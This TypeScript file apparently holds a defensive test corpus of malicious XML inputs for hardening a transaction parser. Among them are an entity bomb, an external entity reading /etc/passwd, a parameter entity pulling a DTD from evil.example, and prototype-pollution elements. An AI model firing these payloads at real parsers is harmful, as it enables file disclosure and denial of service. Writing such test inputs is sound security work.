import { type HostileIdea, numbered, repeated } from './idea.ts'

const inTransaction = (inside: string): string =>
  `<transactions><transaction><token>T1</token>${inside}</transaction></transactions>`

const withDoctype = (declarations: string, value: string): string =>
  `<?xml version="1.0"?><!DOCTYPE t [${declarations}]><transactions><transaction><token>${value}</token></transaction></transactions>`

/**
 * What has been done to readers of XML.
 *
 * Sources: OWASP, "XML External Entity Prevention Cheat Sheet" and "XML Security Cheat Sheet" (entities, nesting, size);
 * CVE-2026-26278, CVE-2026-33036 and CVE-2026-33349 (a parser's limits on entities); W3C XML 1.0, fifth edition.
 */
export const xmlIdeas: readonly HostileIdea[] = [
  {
    name: 'entity bomb',
    make: (size) => {
      const levels = numbered((index) => `<!ENTITY e${index + 1} "${`&e${index};`.repeat(10)}">`, size)
      return withDoctype(`<!ENTITY e0 "ha">${levels}`, '&e9;')
    },
  },
  {
    name: 'quadratic entity',
    make: (size) => withDoctype(`<!ENTITY e "${repeated('a', size / 2)}">`, repeated('&e;', size / 2)),
  },
  {
    name: 'external entity',
    make: (size) => withDoctype(`<!ENTITY e SYSTEM "file:///etc/passwd">${repeated(' ', size)}`, '&e;'),
  },
  {
    name: 'parameter entity',
    make: (size) => withDoctype(repeated('<!ENTITY % p SYSTEM "https://evil.example/e.dtd">%p;', size), '&e;'),
  },
  { name: 'undeclared entities', make: (size) => inTransaction(`<a>${repeated('&nbsp;', size)}</a>`) },
  { name: 'character numbers', make: (size) => inTransaction(`<a>${repeated('&#x41;', size)}</a>`) },
  { name: 'character numbers of nothing', make: (size) => inTransaction(`<a>${repeated('&#0;&#xFFFFFF;', size)}</a>`) },
  { name: 'ampersands', make: (size) => inTransaction(`<a>${repeated('&', size)}</a>`) },
  { name: 'deep elements', make: (size) => inTransaction(repeated('<a>', size / 2) + repeated('</a>', size / 2)) },
  { name: 'deep elements that never end', make: (size) => repeated('<a>', size) },
  { name: 'end tags alone', make: (size) => inTransaction(repeated('</a>', size)) },
  { name: 'huge attribute', make: (size) => inTransaction(`<a b="${repeated('x', size)}"/>`) },
  { name: 'attribute that never ends', make: (size) => `<transactions a="${repeated('x', size)}` },
  { name: 'many attributes', make: (size) => inTransaction(`<a${numbered((index) => ` b${index}="1"`, size)}/>`) },
  { name: 'one attribute again and again', make: (size) => inTransaction(`<a${repeated(' b="1"', size)}/>`) },
  { name: 'blanks in a tag', make: (size) => inTransaction(`<a${repeated(' ', size)}/>`) },
  { name: 'blanks in a tag that never ends', make: (size) => `<transactions${repeated(' \t', size)}` },
  { name: 'huge name', make: (size) => `<${repeated('a', size)}>` },
  { name: 'duplicate elements', make: (size) => inTransaction(repeated('<a/>', size)) },
  { name: 'duplicate values', make: (size) => inTransaction(repeated('<amount>1</amount>', size)) },
  {
    name: 'duplicate signatures',
    make: (size) => inTransaction(repeated('<signed><fields>a</fields></signed>', size)),
  },
  { name: 'distinct elements', make: (size) => inTransaction(numbered((index) => `<a${index}/>`, size)) },
  {
    name: 'elements named __proto__',
    make: (size) => inTransaction(repeated('<__proto__><polluted>1</polluted></__proto__>', size)),
  },
  {
    name: 'many transactions',
    make: (size) => `<transactions>${repeated('<transaction><token>T</token></transaction>', size)}</transactions>`,
  },
  { name: 'many roots', make: (size) => repeated('<transactions/>', size) },
  { name: 'comments', make: (size) => inTransaction(repeated('<!---->', size)) },
  { name: 'comments outside the root', make: (size) => `${inTransaction('')}${repeated('<!-- -->', size)}` },
  { name: 'comment that never ends', make: (size) => inTransaction(repeated('<!--', size)) },
  { name: 'sections', make: (size) => inTransaction(`<a>${repeated('<![CDATA[x]]>', size)}</a>`) },
  { name: 'section that never ends', make: (size) => inTransaction(repeated('<![CDATA[', size)) },
  { name: 'processing instructions', make: (size) => inTransaction(repeated('<?php x?>', size)) },
  { name: 'declaration that never ends', make: (size) => `<?xml ${repeated('?', size)}` },
  {
    name: 'namespaces',
    make: (size) =>
      inTransaction(numbered((index) => `<n${index}:amount xmlns:n${index}="u">1</n${index}:amount>`, size)),
  },
  { name: 'angle brackets', make: (size) => repeated('<', size) },
  {
    name: 'form of a thousand inputs',
    make: (size) => `<form action="https://a.example">${repeated('<input name="a" value="b">', size)}</form>`,
  },
  { name: 'form whose attribute never ends', make: (size) => `<form action="${repeated('\'" ', size)}` },
]
